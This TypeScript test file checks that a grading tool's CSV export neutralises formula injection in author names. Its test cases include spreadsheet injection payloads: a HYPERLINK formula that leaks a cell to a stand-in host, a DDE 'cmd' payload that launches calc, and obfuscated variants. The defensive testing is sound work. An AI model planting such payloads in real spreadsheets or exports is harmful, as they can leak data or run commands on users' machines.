import type { InstructorRecord } from "@locollm/core";
import { test as property, fc } from "@fast-check/vitest";
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { instructorRecord } from "../../test/instructor-record.ts";
import { pointsCsv } from "./points-csv.ts";
import { whichCounts } from "./which-counts.ts";

const rows = (about: Partial<InstructorRecord>) => [whichCounts([{ ...instructorRecord, ...about }])!];
const authorIn = async (author: string): Promise<string> => {
  const [, cells] = parse(await pointsCsv(rows({ author })), { bom: true }) as [string[], string[]];
  return cells[1]!;
};

test("one row an adapter", async () => {
  const open: InstructorRecord["parts"] = [
    { part: "check", points: 30, of: 30, because: "loco check finds no error." },
    { part: "review", points: null, of: 50, because: "A person has to look." },
  ];
  const text = await pointsCsv([
    ...rows({ author: "Ada, of Tides <ada@example.org>" }),
    ...rows({ adapter: "2026-s2/sums", measured: null, parts: open }),
  ]);
  expect(text.replaceAll("\r\n", "\n")).toMatchInlineSnapshot(`
    "﻿adapter,author,received,clock,deadline,days late,try,tries used,tries graded,points,of,check,reproduces,evaluation,card,review,harmless,better,open,in common with
    2026-s2/tides,"Ada, of Tides <ada@example.org>",2026-10-09T16:58:00+11:00,commit,end,0,1,1,3,30,30,30,,,,,,,,
    2026-s2/sums,,2026-10-09T16:58:00+11:00,commit,end,0,refused,0,3,,80,30,,,,,,,review,
    "
  `);
});

test.each([
  ['=HYPERLINK("https://example.org/?"&A1,"marks")', '\'=HYPERLINK("https://example.org/?"&A1,"marks")'],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["-2+3", "'-2+3"],
  ["@SUM(1)", "'@SUM(1)"],
  ["\uff1d1+1", "'\uff1d1+1"],
  ["\t=1+1", "'=1+1"],
  ["\r=1+1", "'=1+1"],
  ["  =1+1", "'=1+1"],
  ["\u200b=1+1", "<U+200B>=1+1"],
  ["Ada\n=1+1", "Ada =1+1"],
])("a spreadsheet computes nothing of %j", async (author, cell) => {
  expect(await authorIn(author)).toBe(cell);
});

property.prop([fc.string({ unit: "binary" })])("no name begins a formula or another row", async (author) => {
  const text = await pointsCsv(rows({ author }));
  expect(parse(text, { bom: true })).toHaveLength(2);
  expect(await authorIn(author)).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
});
